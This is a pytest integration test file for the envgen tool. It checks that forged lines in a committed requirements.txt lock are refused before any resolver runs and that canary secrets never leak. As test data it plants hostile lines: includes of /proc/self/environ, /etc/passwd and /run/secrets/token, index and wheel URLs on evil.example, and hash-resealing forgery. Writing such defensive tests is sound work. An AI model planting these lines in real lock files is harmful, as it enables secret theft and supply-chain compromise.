"""Lines of a committed requirements.txt that are not pins never reach a resolver (issue 21).

A cloned project's lock is untrusted. Each case plants what an attacker would (an `-r
/proc/self/environ` include, an option line, a direct URL with a leading blank, a bare URL line,
a malformed `lock-options:` header), mostly resealed with a recomputed content hash, and runs the
real CLI against the loopback index. Canary secrets sit in the environment (a CI token, a uv index
password, an AWS key) and in the index URLs' userinfo; none may appear in any output or file.
"""

from __future__ import annotations

import hashlib
import shutil
import subprocess  # noqa: TID251 - tests run envgen and make as real processes
import sys
from pathlib import Path
from typing import Final

import pytest

from envgen.infra.settings import Settings
from envgen.lock.lockfile import lock_inputs
from envgen.lock.options import LockOptions
from envgen.model.matrix import load_matrix
from envgen.model.spec import load_spec
from envgen.model.variants import expand
from envgen.render.indexes import index_urls
from tests.support.cli import run_cli
from tests.support.fixtures import AUTH_TOKEN, ServedIndex, clean_tool_env

pytestmark = pytest.mark.integration

MINI: Final = Path(__file__).parents[1] / "data" / "matrix-mini"
ROOT: Final = Path(__file__).parents[2]
SPEC: Final = (
    'name: hostile\npython: "3.11"\ntorch: "2.1.0"\n'
    'accelerators: [cpu]\nmanagers: [pip]\npip: ["numpy<2"]\n'
)
# Secrets in the environment: none is passed to uv, and none may be printed.
ENV_CANARIES: Final = {
    "CI_DEPLOY_TOKEN": "CANARY-CI-TOKEN-5678",
    "UV_INDEX_MIRROR_PASSWORD": "CANARY-UV-PASSWORD-9012",
    "AWS_SECRET_ACCESS_KEY": "CANARY-AWS-KEY-3456",
    "ENVGEN_S3_SECRET": "CANARY-ENVGEN-7890",
}
CANARIES: Final = (AUTH_TOKEN, *ENV_CANARIES.values())
HASH: Final = "ab" * 32


def envgen(args: list[str], env: dict[str, str], cwd: Path) -> tuple[int, str]:
    return run_cli(args, env, cwd, verbose=True)


def assert_no_canary(proj: Path, outputs: list[str]) -> None:
    for out in outputs:
        for canary in CANARIES:
            assert canary not in out, out
        assert "Traceback" not in out
        assert "internal error" not in out
        assert "root:x:0:0" not in out  # the first line of /etc/passwd
    for path in proj.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            assert not any(c.encode() in data for c in CANARIES), path


def reseal(path: Path, body: str, *, header_extra: str = "", input_hash: str | None = None) -> None:
    """Write `body` under the file's header with a recomputed content hash (as an attacker)."""
    head = path.read_text().partition("\n# content-hash: ")[0].splitlines()
    if input_hash is not None:
        head = [f"# input-hash: {input_hash}" if h.startswith("# input-hash:") else h for h in head]
    if header_extra:
        at = next(i for i, h in enumerate(head) if h.startswith("# input-hash:")) + 1
        head.insert(at, f"# {header_extra}")
    digest = hashlib.sha256(body.encode()).hexdigest()
    path.write_text("\n".join(head) + f"\n# content-hash: sha256:{digest}\n{body}")


def body_of(path: Path) -> str:
    return path.read_text().partition("\n# content-hash: ")[2].split("\n", 1)[1]


def line_of(path: Path, needle: str) -> int:
    return next(n for n, line in enumerate(path.read_text().splitlines(), 1) if needle in line)


@pytest.fixture(scope="module")
def locked(
    tmp_path_factory: pytest.TempPathFactory, pytorch_index_with_auth: ServedIndex
) -> tuple[Path, dict[str, str]]:
    """A pip project locked once against the index behind basic auth; each test edits a copy."""
    index = pytorch_index_with_auth
    base = tmp_path_factory.mktemp("hostile-lines")
    env = clean_tool_env(base)
    env.update(
        ENVGEN_CACHE_DIR=str(base / "cache"),
        ENVGEN_MATRIX=str(MINI),
        ENVGEN_PYTORCH_INDEX=index.with_auth(index.root_url),
        ENVGEN_PYPI_INDEX=index.with_auth(index.pypi_url),
        PYTHONPATH=str(ROOT),
        **ENV_CANARIES,
    )
    proj = base / "proj"
    proj.mkdir()
    (proj / "project.yaml").write_text(SPEC)
    code, out = envgen(["lock", "project.yaml"], env, proj)
    assert code == 0, out
    return proj, env


@pytest.fixture
def proj(locked: tuple[Path, dict[str, str]], tmp_path: Path) -> Path:
    copy = tmp_path / "proj"
    shutil.copytree(locked[0], copy, symlinks=True)
    return copy


OPTION: Final = (
    "is not an index line envgen writes (`--index-url URL`, `--extra-index-url URL`, "
    "`--find-links URL`); no other option line is accepted"
)


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        ("-r /proc/self/environ", OPTION),
        ("-c /etc/passwd", OPTION),
        ("-e .", OPTION),
        (
            "--index-url http://evil.example/simple",
            "is an index line among the pins (they come first)",
        ),
    ],
)
def test_an_option_line_in_a_committed_lock_never_reaches_a_resolver(
    locked: tuple[Path, dict[str, str]], proj: Path, line: str, problem: str
) -> None:
    """Resealed, `lock` refuses the lock naming the line; uv never starts."""
    env = locked[1]
    lock = proj / "environments" / "cpu" / "requirements.txt"
    reseal(lock, body_of(lock) + line + "\n")
    before = lock.read_bytes()
    number = line_of(lock, line)
    code, out = envgen(["lock", "project.yaml"], env, proj)
    assert code == 6, out
    assert f"[cpu] cpu/requirements.txt:{number}: `{line}` {problem}\n" in out, out
    assert "running: " not in out, out  # no process (uv, pip-compile) was started
    assert lock.read_bytes() == before
    assert_no_canary(proj, [out])


def test_upgrade_package_and_the_makefile_refuse_an_include_too(
    locked: tuple[Path, dict[str, str]], proj: Path
) -> None:
    env = locked[1]
    lock = proj / "environments" / "cpu" / "requirements.txt"
    # Not resealed: the content hash fails too, and the lock is re-resolved from its pins.
    lock.write_text(lock.read_text() + "-r /proc/self/environ\n")
    number = line_of(lock, "-r /proc/self/environ")
    outputs = []
    code, out = envgen(["lock", "project.yaml", "--upgrade-package", "numpy"], env, proj)
    outputs.append(out)
    assert code == 6, out
    assert f"cpu/requirements.txt:{number}: `-r /proc/self/environ` is not an index line" in out
    make = shutil.which("make")
    if make is not None:
        done = subprocess.run(
            [make, "-C", "environments", "lock", f"ENVGEN={sys.executable} -m envgen -vv"],
            env=env,
            cwd=proj,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        outputs.append(done.stdout + done.stderr)
        assert done.returncode != 0, outputs[-1]
        assert "`-r /proc/self/environ` is not an index line" in outputs[-1]
    assert not any("running: " in o for o in outputs), outputs
    # --upgrade starts from the spec alone: nothing of the old lock is read, and it is rewritten.
    code, out = envgen(["lock", "project.yaml", "--upgrade"], env, proj)
    outputs.append(out)
    assert code == 0, out
    assert "/proc/self/environ" not in lock.read_text()
    assert_no_canary(proj, outputs)


@pytest.mark.parametrize(
    ("planted", "problem"),
    [
        (
            f" six @ https://evil.example/six-1.17.0-py2.py3-none-any.whl \\\n    --hash=sha256:{HASH}",
            "starts with blanks but continues no requirement",
        ),
        (
            f"https://evil.example/six-1.17.0-py2.py3-none-any.whl --hash=sha256:{HASH}",
            "is not a requirement (`name==version`, `name @ URL`)",
        ),
    ],
)
def test_the_pins_only_check_and_every_check_parse_like_the_build(
    locked: tuple[Path, dict[str, str]], proj: Path, planted: str, problem: str
) -> None:
    env = locked[1]
    lock = proj / "environments" / "cpu" / "requirements.txt"
    reseal(lock, body_of(lock) + planted + "\n")
    number = line_of(lock, "evil.example")
    first = planted.splitlines()[0].strip()  # as the parser quotes it: stripped, at most 120
    shown = first if len(first) <= 120 else first[:117] + "..."
    named = f"cpu/requirements.txt: line {number}: `{shown}` {problem}"
    outputs = []
    for args in (["check", "project.yaml", "--pins-only"], ["check", "project.yaml"]):
        code, out = envgen(args, env, proj)
        outputs.append(out)
        assert code == 9, out
        assert named in out, out
    # The full check's hint is --upgrade's: a plain `envgen lock` refuses such a lock too.
    assert "hint: a lock differs from what its inputs resolve to: review who changed it;" in out
    code, out = envgen(["build", "project.yaml", "--no-smoke"], env, proj)
    outputs.append(out)
    assert code == 7, out
    assert f"requirements.txt:{number}: `{shown}` {problem}" in out, out
    assert not (proj / "environments" / "cpu" / ".env").exists()
    assert_no_canary(proj, outputs)


def test_plain_lock_names_a_forged_resealed_index_line(
    locked: tuple[Path, dict[str, str]], proj: Path
) -> None:
    """Not "up to date (no resolver work)": the forged line is named, as `check` names it."""
    env = locked[1]
    lock = proj / "environments" / "cpu" / "requirements.txt"
    body = body_of(lock)
    evil = "--extra-index-url http://evil.example/simple"
    reseal(lock, body.replace("\n\n", f"\n{evil}\n\n", 1))
    before = lock.read_bytes()
    number = line_of(lock, "evil.example")
    code, out = envgen(["lock", "project.yaml"], env, proj)
    assert code == 9, out
    assert "up to date" not in out
    assert (
        f"  - cpu/requirements.txt: line {number}: `{evil}` is not an index line the spec and "
        "settings write"
    ) in out, out
    assert (
        "hint: a lock names what envgen does not write: review who changed it; "
        "`envgen lock --upgrade` re-resolves it from the spec"
    ) in out
    assert lock.read_bytes() == before
    assert_no_canary(proj, [out])


def test_a_resealed_malformed_lock_options_header_is_a_clear_error(
    locked: tuple[Path, dict[str, str]], proj: Path
) -> None:
    env = locked[1]
    lock = proj / "environments" / "cpu" / "requirements.txt"
    # The attacker recomputes the input hash the header claims, as envgen would for that date.
    settings = Settings.from_environ(env)
    spec = load_spec(proj / "project.yaml")
    (variant,) = expand(spec, load_matrix(MINI)).variants
    options = LockOptions(spec=spec.path, settings=settings, as_of="garbage")
    forged = lock_inputs(spec, variant, options, index_urls(spec, settings, for_writing=True))
    reseal(lock, body_of(lock), header_extra="lock-options: --as-of garbage", input_hash=forged)
    problem = "`lock-options: --as-of garbage`: --as-of 'garbage' is not a date (YYYY-MM-DD)"
    code, out = envgen(["check", "project.yaml"], env, proj)
    assert code == 9, out
    assert f"  - cpu/requirements.txt: {problem}\n" in out, out
    code, build_out = envgen(["build", "project.yaml", "--no-smoke"], env, proj)
    assert code == 7, build_out
    assert f"error: {lock.relative_to(proj)}: {problem}\n" in build_out, build_out
    assert_no_canary(proj, [out, build_out])


@pytest.mark.parametrize(
    ("forged", "resealed", "code", "named"),
    [
        ("--extra-index-url https://evil.example/simple", True, 7, "refusing indexes"),
        ("-r /run/secrets/token", True, 6, "is not an index line envgen writes"),
        ("evilpkg==1.0 \\\n    --hash=sha256:" + "0" * 64, False, 7, "content-hash"),
    ],
)
def test_dockerfile_refuses_a_forged_lock(
    locked: tuple[Path, dict[str, str]],
    proj: Path,
    forged: str,
    resealed: bool,
    code: int,
    named: str,
) -> None:
    """Red team, round 3: a Dockerfile installs the committed lock, so `envgen dockerfile` checks
    it as a build does first (the one parser, its hashes, the spec's indexes): nothing written."""
    env = locked[1]
    lock = proj / "environments" / "cpu" / "requirements.txt"
    body = body_of(lock)
    edited = (
        body.replace("\n\n", f"\n{forged}\n\n", 1)
        if forged.startswith("-")
        else body + forged + "\n"
    )
    if resealed:
        reseal(lock, edited)
    else:
        lock.write_text(lock.read_text().replace(body, edited))
    got, out = envgen(["dockerfile", "project.yaml"], env, proj)
    assert got == code, out
    assert named in out, out
    assert not (proj / "docker").exists()
    assert_no_canary(proj, [out])
